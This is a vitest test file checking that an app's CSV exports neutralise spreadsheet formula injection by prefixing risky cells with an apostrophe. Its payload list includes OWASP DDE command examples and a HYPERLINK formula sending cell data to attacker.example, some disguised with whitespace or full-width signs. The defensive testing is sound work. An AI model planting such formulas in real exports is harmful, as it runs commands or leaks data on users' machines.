import path from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { projectRoot } from '../../server/src/config.js';
import { signedInAs, type TestActor } from '../support/accounts.js';
import { databaseModes } from '../support/testDatabase.js';
import { adminHeaders, useTestApp } from '../support/testApp.js';

const fixtureDir = path.join(projectRoot, 'tests/fixtures/gap-analysis');

/** OWASP's CSV injection examples, and the same signs behind what spreadsheets skip or in their full-width forms. */
const formulaTexts = [
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '=HYPERLINK("http://attacker.example/?leak="&A1,"Error: click here")',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '   @SUM(1+9)',
  '\n-2+3',
  '\u00a0=1+1',
  '\u3000+1+1',
  '\u200b=1+1',
  '\u2060@SUM(1+9)',
  '＝1+1',
  '＋1+1',
  '－2+3',
  '＠SUM(1+9)',
  ' ＝1+1',
];

/** The fields of one CSV line as a spreadsheet reads them (RFC 4180; no line breaks inside these fields). */
function csvCells(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let index = 0; index < text.length; index++) {
    const char = text[index]!;
    if (quoted) {
      if (char === '"' && text[index + 1] === '"') {
        cell += '"';
        index++;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      row.push(cell);
      cell = '';
    } else if (char === '\r' && text[index + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      index++;
    } else cell += char;
  }
  return rows;
}

describe.each(databaseModes())('CSV exports (%s database)', (mode) => {
  const context = useTestApp(mode, fixtureDir);
  let editor: TestActor;

  beforeAll(async () => {
    editor = await signedInAs(context.database.db, 'editor', 'testland');
  });

  it('defuses every formula-like text of the action plan', async () => {
    for (const [index, problem] of formulaTexts.entries()) {
      const created = await context.app.inject({
        method: 'POST',
        url: '/api/alliances/testland/actions',
        headers: editor.headers,
        payload: { title: `Action ${index}`, problem },
      });
      expect(created.statusCode, created.body).toBe(201);
    }
    const csv = await context.app.inject({ url: '/api/alliances/testland/actions.csv', headers: editor.headers });
    expect(csv.statusCode).toBe(200);
    const [header, ...rows] = csvCells(csv.body);
    const problemColumn = header!.indexOf('Local problem');
    expect(rows.map((row) => row[problemColumn])).toEqual(formulaTexts.map((text) => `'${text}`));
  });

  it('defuses formula-like area names in the gap analysis results', async () => {
    const names = ["=cmd|' /C calc'!A0", '＝1+1', '\u200b@SUM(1+9)', '-2+3'];
    const imported = await context.app.inject({
      method: 'POST',
      url: '/api/alliances/meridian/analysis-units',
      headers: adminHeaders,
      payload: {
        name: 'Formula areas',
        areas: {
          type: 'FeatureCollection',
          features: names.map((name, index) => ({
            type: 'Feature',
            properties: { name, population: 100 },
            geometry: {
              type: 'Polygon',
              coordinates: [
                [
                  [0.45, 45 + index * 0.05],
                  [0.55, 45 + index * 0.05],
                  [0.55, 45.04 + index * 0.05],
                  [0.45, 45.04 + index * 0.05],
                  [0.45, 45 + index * 0.05],
                ],
              ],
            },
          })),
        },
      },
    });
    expect(imported.statusCode, imported.body).toBe(201);
    const started = await context.app.inject({
      method: 'POST',
      url: '/api/alliances/meridian/gap-analyses',
      headers: adminHeaders,
      payload: { units: { kind: 'imported', unitSetId: imported.json().unitSet.id }, categories: ['social_action'] },
    });
    expect(started.statusCode, started.body).toBe(202);
    const runId = started.json().id as string;
    for (let attempt = 0; attempt < 600; attempt++) {
      if ((await context.app.inject({ url: `/api/gap-analyses/${runId}` })).json().status !== 'running') break;
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
    const csv = await context.app.inject({ url: `/api/gap-analyses/${runId}/results.csv` });
    expect(csv.statusCode, csv.body).toBe(200);
    const [header, ...rows] = csvCells(csv.body);
    const nameColumn = header!.indexOf('unit_name');
    expect(rows.map((row) => row[nameColumn]).sort()).toEqual(names.map((name) => `'${name}`).sort());
  });
});
